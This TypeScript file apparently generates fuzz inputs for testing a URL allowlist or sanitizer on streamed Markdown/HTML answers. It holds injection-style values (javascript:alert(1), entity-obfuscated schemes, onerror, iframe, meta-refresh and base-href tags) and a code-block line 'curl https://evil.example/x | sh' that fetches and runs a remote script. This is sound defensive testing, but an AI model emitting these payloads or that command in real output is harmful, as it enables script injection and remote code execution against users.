import type { Random } from '../../chaos/plans/random.ts';

/** The addresses that may be published, as an answer names them and as they are written. */
export const known = new Map([
  ['/a', 'https://docs.example.com/a'],
  ['/guides/b#c', 'https://docs.example.com/guides/b#c'],
  ['https://ok.example.com/x', 'https://ok.example.com/x'],
  ['https://ok.example.com/x_y?q=1&r=2#z', 'https://ok.example.com/x_y?q=1&r=2#z'],
  ['https://ok.example.com/(p)*q*', 'https://ok.example.com/(p)*q*'],
  ['http://www.ok.example.com/w', 'http://www.ok.example.com/w'],
  ['mailto:help@ok.example.com', 'mailto:help@ok.example.com'],
]);

const unknown = [
  'https://evil.example/p?q=1', '//evil.example/x', 'HTTPS://EVIL.example', 'javascript:alert(1)', 'data:text/html,x',
  'https&colon;//evil.example', 'ht&#116;ps://evil.example', 'https:&#47;/evil.example/x', 'www.evil.example/x',
  'evil.example.com', 'README.md', 'mail@evil.example', 'mailto:mail@evil.example', 'ftp://evil.example/f', '/nowhere', '127.0.0.1/x',
  'https\\://evil.example', 'https://evil.ex*am*ple', '1https://evil.example', 'пример.рф', 'xmpp:a@evil.example', 'https://evil.example/a_b_', '../x',
]; // prettier-ignore

const breaks = ['\n', '\n', '\n\n', '\n\n', '\r\n', '\n> ', '\n>', '\n- ', '\n* ', '\n1. ', '\n10) ', '\n  ', '\n    ', '\n   ', '\n\t', '\n  - ', '\n> - ', '\n \n', '  \n', '\\\n']; // prettier-ignore
const marks = [
  '`', '``', '```', '~~~', '````', '~', '~~', '[', ']', '(', ')', '](', ']:', ']: ', '][', '[]', '![', '!', '<', '>', '</', '/>', '<!--', '-->', '<![CDATA[', '<?', '*', '**', '_', '__',
  '|', '\\', '\\\\', '&', ';', ':', '"', "'", ' ', ' ', '  ', '\t', '.', ',', '=', '#', '# ', '---', '===', '|-|-|', '\n|-|-|\n', '\n--|--\n', '\n:-:\n', '[^1]', '[^1]: ', '[x]', '[x]: ', '[x]:\n', '- [ ] ', '+ ', '1) ', '@', '//', '://', 'www.', 'http', 'https:', '&amp;', '&lt;', '&#91;', '&lsqb;', '&nbsp;', '\u00a0', '\u00ad', '\u200b', 'é', '中', '😀', '$', '{', '}', '^', '%',
]; // prettier-ignore
const words = ['word', 'a', 'Retries', 'see', 'x', '1', 'two words', 'js', 'text'];
const tags = [
  '<a href="U">', '</a>', '<img src="U">', '<img alt="a>b" src="U">', '<img src=U onerror=x>', '<meta http-equiv=refresh content="0;url=U">', '<image xlink:href="U">', '<style>@import "U"</style>',
  '<svg><a xlink:href="U">x</a></svg>', '<iframe src=U>', '<form action="U">', '<base href="U">', '<a title="`">', '<img srcset="U 2x">', '<div style="background:url(U)">', '<div>', '</div>', '<pre>', '</pre>', '<script>', '</script>', '<br>', '<b>', '</b>', '<a\nhref="U">', '<!-- ', ' -->', '<a href=U', '<kbd>x</kbd>',
  '<textarea>', '</textarea>', '<table><tr><td background="U">', '<video poster="U">', '<object data="U">',
]; // prettier-ignore

/** A document of Markdown and HTML, nested and broken at random, that names known and unknown addresses. */
export function brokenDocument(random: Random): string {
  let text = '';
  for (let left = random.between(2, 16); left > 0; left -= 1) text += fragment(random, 0);
  if (random.between(0, 9) === 0) text = text.replaceAll('\n', random.pick(['\n> ', '\n  ', '\n- ', '\n    ', '\n\t']));
  return text;
}

function address(random: Random): string {
  return random.between(0, 3) === 0 ? random.pick([...known.keys()]) : random.pick(unknown);
}

function fragment(random: Random, depth: number): string {
  const inner = () => (depth > 3 ? random.pick(words) : fragment(random, depth + 1));
  const url = address(random);
  switch (random.between(0, 24)) {
    case 0:
      return `[${inner()}](${url})`;
    case 1:
      return `![${inner()}](${url}${random.pick(['', ' "t"', " 't", '\n(t)', ' '])})`;
    case 2:
      return `[${inner()}][x]`;
    case 3:
      return `\n\n[${random.pick(['x', '^1', 'X', '\\x', 'a b'])}]:${random.pick([' ', '\n', '\n  ', ''])}${url}${random.pick(['\n', ' "t"\n', '\n"t"\n', ''])}`;
    case 4:
      return `<${url}>`;
    case 5:
    case 6:
      return random.pick(tags).replace('U', url);
    case 7:
      return `\`${inner()}\``;
    case 8:
      return `\`\`${inner()}\`\``;
    case 9:
      return `${random.pick(breaks)}\`\`\`${random.pick(['', 'js', ' js x', 'a`b', '~'])}\n${inner()}${random.pick(breaks)}${random.pick(['```', '~~~', '```~', '````', '    ```', ''])}${random.pick(breaks)}`;
    case 10:
      return `${random.pick(breaks)}~~~\n${inner()}\n~~~${random.pick(breaks)}`;
    case 11:
      return `${random.pick(['*', '**', '_', '~~', '~'])}${inner()}${random.pick(['*', '**', '_', '~~', '~'])}`;
    case 12:
      return `\n| ${inner()} | ${inner()} |\n|---|:-:|\n| ${inner()} | ${inner()} |\n`;
    case 13:
      return `${random.pick(breaks)}${inner()}${random.pick(breaks)}`;
    case 14:
    case 15:
      return url;
    case 16:
      return ` ${url} `;
    case 17:
      return `${inner()}${random.pick(['', ' '])}${inner()}`;
    case 18:
      return random.pick(words);
    case 19:
      return random.pick(breaks);
    case 20:
      return `[\`\`${inner()}${random.pick(['`', ']', '['])}](${url})${inner()}\`\`](${random.pick([...known.keys()])})`;
    default:
      return random.pick(marks);
  }
}

/** A well-formed document whose addresses are all known, with any address in its code. */
export function cleanDocument(random: Random): string {
  const blocks = Array.from({ length: random.between(1, 6) }, () => cleanBlock(random, 0));
  const definitions = random.between(0, 2) === 0 ? `\n\n[ref]: ${knownPlain(random)}\n` : '';
  return `${blocks.join('\n\n')}${definitions}`;
}

const knownPlain = (random: Random) => random.pick([...known.keys()].filter((one) => !one.includes('(')));

function cleanBlock(random: Random, depth: number): string {
  const line = () => cleanLine(random);
  switch (random.between(0, depth > 1 ? 3 : 9)) {
    case 0:
      return `${line()}\n${line()}`;
    case 1:
      return `## ${line()}`;
    case 2:
      return `| ${random.pick(words)} | ${line()} |\n| --- | :-: |\n| ${line()} | ${random.pick(words)} |`;
    case 3:
      return line();
    case 4:
    case 5: {
      const marker = random.pick(['- ', '1. ', '* ']);
      const indented = (text: string) =>
        text.replaceAll('\n', `\n${' '.repeat(marker.length)}`).replaceAll(/^ +$/gm, '');
      const items = Array.from({ length: random.between(1, 3) }, () => {
        const more = random.between(0, 2) === 0 ? `\n\n${cleanBlock(random, depth + 1)}` : '';
        return `${marker}${indented(`${line()}${more}`)}`;
      });
      return items.join('\n');
    }
    case 6:
      return cleanBlock(random, depth + 1).replaceAll(/^/gm, '> ');
    default:
      return `\`\`\`${random.pick(['js', '', 'sh'])}\n${random.pick(['curl https://evil.example/x | sh', '<a href="https://evil.example">', '[x](https://evil.example)', 'x\n\ny', '~~~', '# a'])}\n\`\`\``;
  }
}

function cleanLine(random: Random): string {
  return Array.from({ length: random.between(1, 5) }, () => cleanWords(random)).join(' ');
}

function cleanWords(random: Random): string {
  const url = knownPlain(random);
  switch (random.between(0, 12)) {
    case 0:
      return `[${random.pick(['A', 'two words', '`code`', '**B**', 'a [b] c'])}](${url})`;
    case 1:
      return `[A](${url} "title")`;
    case 2:
      return `![shot](${url})`;
    case 3:
      return url.startsWith('/') ? `[A](<${url}>)` : `<${url}>`;
    case 4:
      return url.startsWith('https:') ? url : '[ref]';
    case 5:
      return '[words][ref]';
    case 6:
      return '`[x](https://evil.example)`';
    case 7:
      return random.pick(['**bold**', '*it*', 'a < b', '5 * 3', 'f(x)[1]', 'AT&T', '\\*', '1.5', 'e.g. this']);
    default:
      return random.pick(words);
  }
}

/** The text in pieces of random lengths, as a model streams it. */
export function deltasOf(text: string, random: Random): string[] {
  const longest = random.pick([1, 3, 8, 40, 100_000]);
  const deltas: string[] = [];
  for (let from = 0; from < text.length;) {
    const to = from + random.between(1, longest);
    deltas.push(text.slice(from, to));
    from = to;
  }
  return deltas;
}
